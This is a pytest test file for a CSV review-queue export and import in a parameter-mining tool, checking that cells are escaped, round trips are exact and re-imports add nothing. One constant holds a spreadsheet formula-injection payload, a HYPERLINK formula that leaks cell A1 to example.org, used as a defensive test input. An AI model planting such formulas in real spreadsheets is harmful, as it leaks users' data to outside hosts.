"""The spreadsheet round trip cannot bite: inert cells, exact text back, idempotent imports,
and rows refused when their item changed since the export (unless --force)."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from conftest import SAMPLE_DIR, LoadedSample
from paramminer.cli import cli
from paramminer.config import Settings
from paramminer.ingest import discover, ingest
from paramminer.review import FORMULA_LEADS, all_decisions, decide, neutralise, restore
from paramminer.warehouse import Warehouse

INJECTION = '=HYPERLINK("http://example.org/?leak="&A1,"click me")'
TERN = "tern-recommendation-at-scale"
ODD_ID = "@tern"  # a paper id (from its file name) that a spreadsheet would run


@given(st.text())
def test_neutralised_cells_never_run_and_come_back_exactly(text: str) -> None:
    cell = neutralise(text)
    assert not cell.startswith(FORMULA_LEADS)
    assert restore(cell) == text


@pytest.fixture
def warehouse(loaded_sample: LoadedSample, tmp_path: Path) -> Path:
    """The sample plus a paper whose id starts with '@', and an injected title."""
    path = tmp_path / "w.duckdb"
    shutil.copy(loaded_sample.warehouse, path)
    odd = tmp_path / f"{ODD_ID}.pdf"
    odd.write_bytes((SAMPLE_DIR / "tern-recommendation-at-scale.pdf").read_bytes() + b"% odd\n")
    items, _ = discover([odd])
    with Warehouse.open(path) as wh:
        report = ingest(items, wh, Settings(data_dir=loaded_sample.data_dir, workers=1))
        assert report.loaded == [ODD_ID]
        wh.con.execute("UPDATE papers SET title = ? WHERE paper_id = '2401.90001'", [INJECTION])
    return path


def _cli(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args), env={"PARAMMINER_REVIEWER": ""})
    return result.exit_code, result.stdout, result.stderr


def _export(path: Path, out: Path) -> list[dict[str, str]]:
    code, _, err = _cli("review", "export", "--all", "--csv", str(out), "-w", str(path))
    assert code == 0, err
    with out.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _write(rows: list[dict[str, str]], out: Path) -> None:
    with out.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def test_export_is_inert_and_the_round_trip_exact(warehouse: Path, tmp_path: Path) -> None:
    queue = tmp_path / "queue.csv"
    rows = _export(warehouse, queue)
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_LEADS)]
    assert "'" + INJECTION in cells  # shown as text by every spreadsheet
    by_id = {restore(row["item_id"]): row for row in rows}
    assert by_id["2401.90001"]["title"] == "'" + INJECTION
    assert by_id[ODD_ID]["item_id"] == "'" + ODD_ID
    by_id[ODD_ID].update(action="set", value="2M", note="'= quoted on purpose")
    by_id["2401.90001"].update(action="accept", note="-checked against Table 1")
    _write(rows, queue)
    code, out, err = _cli("review", "import", "--csv", str(queue), "--by", "ann",
                          "-w", str(warehouse))
    assert code == 0, err
    assert out == (f"2 decision(s) applied, 0 row(s) already applied, {len(rows) - 2} row(s) "
                   "without a decision\n")
    with Warehouse.open(warehouse, read_only=True) as wh:
        got = {(d.item_key, d.action, d.new_value, d.note) for d in all_decisions(wh.con)}
    assert got == {(ODD_ID, "set", 2_000_000, "= quoted on purpose"),
                   ("2401.90001", "accept", 70_000_000_000, "-checked against Table 1")}


def test_importing_the_same_file_twice_adds_nothing(warehouse: Path, tmp_path: Path) -> None:
    queue = tmp_path / "queue.csv"
    rows = _export(warehouse, queue)
    for row, (action, value) in zip(rows[:3], [("accept", ""), ("set", "1.5B"), ("reject", "")],
                                    strict=True):
        row.update(action=action, value=value, note="first pass")
    _write(rows, queue)
    assert _cli("review", "import", "--csv", str(queue), "-w", str(warehouse), "--by", "ann"
                )[1].startswith("3 decision(s) applied, 0 row(s) already applied")
    with Warehouse.open(warehouse, read_only=True) as wh:
        before = all_decisions(wh.con)
    code, out, _ = _cli("review", "import", "--csv", str(queue), "-w", str(warehouse),
                        "--by", "bob")
    assert code == 0
    assert out.startswith("0 decision(s) applied, 3 row(s) already applied")
    with Warehouse.open(warehouse, read_only=True) as wh:
        assert all_decisions(wh.con) == before


def test_rows_whose_item_changed_since_the_export_are_refused(
    warehouse: Path, tmp_path: Path
) -> None:
    queue = tmp_path / "queue.csv"
    rows = _export(warehouse, queue)
    by_id = {restore(row["item_id"]): row for row in rows}
    by_id["2305.90003"].update(action="set", value="47B/13B")
    by_id[TERN].update(action="accept")
    by_id["2011.90004"].update(action="set", value="lots")
    _write(rows, queue)
    with Warehouse.open(warehouse) as wh:  # after the export: a decision, a re-extraction
        decide(wh, "2305.90003", "reject", reviewer="carol", note="not the paper's")
        wh.con.execute("UPDATE papers SET extracted_at = current_timestamp "
                       "WHERE paper_id = ?", [TERN])
    code, out, err = _cli("review", "import", "--csv", str(queue), "-w", str(warehouse))
    assert code == 2 and out == ""
    lines = err.splitlines()
    assert lines[0] == f"paramminer: error: {queue}: 3 bad row(s), nothing applied:"
    assert len(lines) == 4 and all(line.startswith("  line ") for line in lines[1:])
    decided, extracted, bad = (next(line for line in lines if text in line) for text in (
        "2305.90003 was decided since the export", f"{TERN} was extracted again since the export",
        "not a parameter count: 'lots'"))
    assert "reject by carol" in decided and decided.endswith("(--force applies it anyway)")
    assert extracted.endswith("(--force applies it anyway)") and "--force" not in bad
    by_id["2011.90004"].update(action="", value="")
    _write(rows, queue)
    code, out, err = _cli("review", "import", "--csv", str(queue), "-w", str(warehouse),
                          "--force", "--by", "dan")
    assert code == 0, err
    assert out.startswith("2 decision(s) applied")
    with Warehouse.open(warehouse, read_only=True) as wh:
        assert [(d.item_key, d.action, d.reviewer) for d in all_decisions(wh.con)] == [
            ("2305.90003", "reject", "carol"), ("2305.90003", "set", "dan"),
            (TERN, "accept", "dan")]
